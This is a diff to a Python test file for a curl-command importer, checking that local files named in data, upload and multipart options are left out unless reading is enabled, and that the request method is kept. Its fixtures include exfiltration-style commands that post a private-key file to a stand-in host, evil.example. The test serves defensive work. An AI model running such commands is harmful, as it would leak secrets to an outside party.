@@ -21,15 +21,37 @@ def secret(tmp_path: Path) -> Path:
     return path
 
 
-@pytest.mark.parametrize("option", ["-d", "--data-binary", "--json", "--data-urlencode"])
+@pytest.mark.parametrize("option", ["-d @", "--data-binary @", "--json @", "--data-urlencode @", "-T "])
 def test_files_are_left_out_unless_asked(secret: Path, option: str) -> None:
-    command = f"curl https://evil.example/ {option} @{secret}"
+    command = f"curl https://evil.example/ {option}{secret}"
     result = import_curl(command)
     assert "PRIVATE KEY" not in (result.definition.body.content or "")
     assert [found.path for found in result.files] == [secret]
     assert any(str(secret) in warning and "left out" in warning for warning in result.warnings)
+    # Still the request curl would make (POST with data, PUT for -T), its body marked as left out.
+    method = "PUT" if option == "-T " else "POST"
+    assert result.definition.method == method
+    assert str(secret) in result.definition.description and "left out" in result.definition.description
     asked = import_curl(command, read_files=True)
     assert "PRIVATE" in (asked.definition.body.content or "")
+    assert asked.definition.method == method and asked.definition.description == ""
+
+
+def test_multipart_parts_are_never_read_and_the_request_stays_a_post(secret: Path) -> None:
+    for read_files in (False, True):
+        result = import_curl(f"curl https://x.example/up -F key=@{secret} -F 'note=<{secret}'", read_files=read_files)
+        assert result.definition.method == "POST"
+        assert "PRIVATE" not in result.definition.body.content
+        assert [found.problem for found in result.files] == ["is a multipart form part: never read"] * 2
+        assert "left out" in result.definition.description
+
+
+def test_get_and_an_explicit_method_win_over_a_left_out_file(secret: Path) -> None:
+    assert import_curl(f"curl -G https://x.example/ -d @{secret}").definition.method == "GET"
+    assert import_curl(f"curl -I -G https://x.example/ -d @{secret}").definition.method == "HEAD"
+    assert import_curl(f"curl -X PATCH https://x.example/ -d @{secret}").definition.method == "PATCH"
+    with pytest.raises(CurlImportError, match="only one request method"):
+        import_curl(f"curl -I https://x.example/ -d @{secret}")
 
 
 def test_devices_fifos_and_big_files_are_refused(tmp_path: Path) -> None:
